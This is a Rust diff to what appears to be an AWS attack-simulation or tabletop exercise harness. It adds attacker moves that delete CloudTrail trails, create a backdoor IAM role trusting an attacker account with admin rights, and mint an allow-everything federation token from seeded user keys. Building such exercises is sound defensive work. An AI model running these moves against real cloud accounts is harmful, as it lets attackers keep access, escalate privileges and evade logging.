@@ -9,7 +9,11 @@ use serde::Serialize;
 
 use super::admin::Admin;
 use super::scenario::{Move, MoveKind};
-use super::seed::{ADMIN_POLICY, ATTACKER_ACCOUNT, IMAGE};
+use super::seed::{ADMIN_POLICY, ATTACKER_ACCOUNT, IMAGE, Seeded};
+
+/// The prefix of the resource that records when a federation token was
+/// minted (`minted:2026-12-02T18:55:01Z`).
+pub const MINTED: &str = "minted:";
 
 /// One attacker move as it happened.
 #[derive(Debug, Clone, Serialize)]
@@ -36,7 +40,7 @@ pub struct MoveRecord {
 /// snapshot, a protected instance), or why it failed outright.
 pub type Played = Result<(Vec<String>, Vec<String>), String>;
 
-pub async fn play(admin: &Admin, m: &Move) -> (String, Played) {
+pub async fn play(admin: &Admin, seeded: &Seeded, m: &Move) -> (String, Played) {
     let user = m.user.clone().unwrap_or_default();
     let region = m.region.clone().unwrap_or_default();
     match m.action {
@@ -318,6 +322,81 @@ pub async fn play(admin: &Admin, m: &Move) -> (String, Played) {
                 .map(|_| (vec![trail.clone()], Vec::new()))
                 .map_err(|e| error_text(&e));
             (format!("trail {trail}"), r)
+        }
+        MoveKind::DeleteTrail => {
+            let trail = m.trail.clone().unwrap_or_default();
+            let r = admin
+                .cloudtrail(&region)
+                .delete_trail()
+                .name(&trail)
+                .send()
+                .await
+                .map(|_| (vec![trail.clone()], Vec::new()))
+                .map_err(|e| error_text(&e));
+            (format!("trail {trail}"), r)
+        }
+        MoveKind::CreateBackdoorRole => {
+            let iam = admin.iam();
+            let role = m.role.clone().unwrap_or_default();
+            let trust = serde_json::json!({
+                "Version": "2012-10-17",
+                "Statement": [{
+                    "Effect": "Allow",
+                    "Principal": { "AWS": format!("arn:aws:iam::{ATTACKER_ACCOUNT}:root") },
+                    "Action": "sts:AssumeRole",
+                }]
+            });
+            let r = async {
+                iam.create_role()
+                    .role_name(&role)
+                    .assume_role_policy_document(trust.to_string())
+                    .send()
+                    .await
+                    .map_err(|e| error_text(&e))?;
+                iam.attach_role_policy()
+                    .role_name(&role)
+                    .policy_arn(ADMIN_POLICY)
+                    .send()
+                    .await
+                    .map_err(|e| error_text(&e))?;
+                Ok((vec![role.clone()], Vec::new()))
+            }
+            .await;
+            (format!("role {role}"), r)
+        }
+        MoveKind::FederationToken => {
+            let user = m.user.clone().unwrap_or_default();
+            let key = seeded
+                .user_keys
+                .get(&user)
+                .and_then(|k| k.first())
+                .cloned()
+                .unwrap_or_default();
+            let secret = seeded.user_secrets.get(&key).cloned().unwrap_or_default();
+            // "If you do not pass a policy to this operation, the resulting
+            // temporary credentials have no effective permissions" (STS API
+            // reference, GetFederationToken): the attacker passes one.
+            let everything = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}"#;
+            let minted = jiff::Timestamp::now();
+            let r = admin
+                .sts_as(&key, &secret)
+                .get_federation_token()
+                .name("tabletop-fed")
+                .policy(everything)
+                .duration_seconds(43_200)
+                .send()
+                .await
+                .map_err(|e| error_text(&e))
+                .map(|out| {
+                    let token = out
+                        .credentials()
+                        .map(|c| c.access_key_id().to_string())
+                        .unwrap_or_default();
+                    // When it was minted: a revocation holds it only if its
+                    // cutoff comes later.
+                    (vec![token, format!("{MINTED}{minted}")], Vec::new())
+                });
+            (format!("user {user}"), r)
         }
         MoveKind::MuteTrail => {
             let trail = m.trail.clone().unwrap_or_default();
